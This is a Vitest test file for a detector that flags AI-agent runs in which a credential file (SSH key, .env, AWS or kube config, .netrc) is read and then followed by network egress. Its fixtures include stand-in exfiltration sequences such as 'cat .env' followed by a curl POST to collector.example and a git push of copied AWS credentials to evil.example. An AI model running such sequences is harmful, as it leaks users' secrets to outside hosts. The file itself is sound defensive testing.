import { describe, expect, it } from "vitest";
import type { AgentEvent } from "../../../src/contract/facts.ts";
import { replayAgentEvents } from "../../support/replay-agent-events.ts";
import { exec, sandbox } from "./events.ts";

const RUN = "run-cred";
const exfiltration = (events: AgentEvent[]) =>
  replayAgentEvents(events).filter((alert) => alert.rule_id === "credential-exfiltration");

describe("credential read followed by egress", () => {
  it("alerts on a file_read of ~/.ssh/id_rsa followed by a network event", () => {
    const alerts = exfiltration([
      sandbox(RUN, 1, "file_read", { path: "~/.ssh/id_rsa" }),
      exec(RUN, 2, "npm test"),
      sandbox(RUN, 3, "network", { target: "paste.example.com" }),
    ]);
    expect(alerts).toHaveLength(1);
    expect(alerts[0]).toMatchObject({
      kind: "DESTRUCTIVE",
      severity: "critical",
      evidence: { seq_from: 1, seq_to: 3, path: "~/.ssh/id_rsa" },
    });
  });

  it("alerts on `cat .env` then `curl` to a remote host", () => {
    expect(
      exfiltration([exec(RUN, 1, "cat .env"), exec(RUN, 2, "curl -X POST https://collector.example/x")]),
    ).toHaveLength(1);
  });

  it("alerts on reading ~/.aws/credentials then git push to a URL", () => {
    expect(
      exfiltration([
        exec(RUN, 1, "cp ~/.aws/credentials ./creds"),
        sandbox(RUN, 2, "git", { command: "git push https://evil.example/repo.git HEAD" }),
      ]),
    ).toHaveLength(1);
  });

  it("alerts whichever arrives first, judging order by seq", () => {
    expect(
      exfiltration([
        sandbox(RUN, 5, "network", { target: "evil.example" }),
        sandbox(RUN, 2, "file_read", { path: "/home/u/.kube/config" }),
      ]),
    ).toHaveLength(1);
  });

  it("does not alert on egress without a prior credential read", () => {
    expect(
      exfiltration([
        exec(RUN, 1, "cat README.md"),
        exec(RUN, 2, "curl https://example.com"),
        sandbox(RUN, 3, "network", { target: "registry.npmjs.org" }),
      ]),
    ).toEqual([]);
  });

  it("does not alert when egress happened before the read, or goes to localhost", () => {
    expect(
      exfiltration([
        sandbox(RUN, 1, "network", { target: "example.com" }),
        sandbox(RUN, 2, "file_read", { path: "/work/repo/.env" }),
      ]),
    ).toEqual([]);
    expect(
      exfiltration([
        sandbox(RUN, 1, "file_read", { path: "/work/repo/.env" }),
        exec(RUN, 2, "curl http://localhost:3000/health"),
      ]),
    ).toEqual([]);
  });

  it("does not count public keys, known_hosts or .env templates as credentials", () => {
    expect(
      exfiltration([
        exec(RUN, 1, "cat ~/.ssh/id_ed25519.pub ~/.ssh/known_hosts .env.example"),
        sandbox(RUN, 2, "network", { target: "example.com" }),
      ]),
    ).toEqual([]);
  });

  it("does not treat git push to a named remote as egress", () => {
    expect(exfiltration([exec(RUN, 1, "cat .env"), exec(RUN, 2, "git push origin feature/x")])).toEqual([]);
  });

  it("alerts once per credential read however much egress follows", () => {
    expect(
      exfiltration([
        exec(RUN, 1, "cat ~/.netrc"),
        sandbox(RUN, 2, "network", { target: "a.example" }),
        sandbox(RUN, 3, "network", { target: "b.example" }),
      ]),
    ).toHaveLength(1);
  });
});
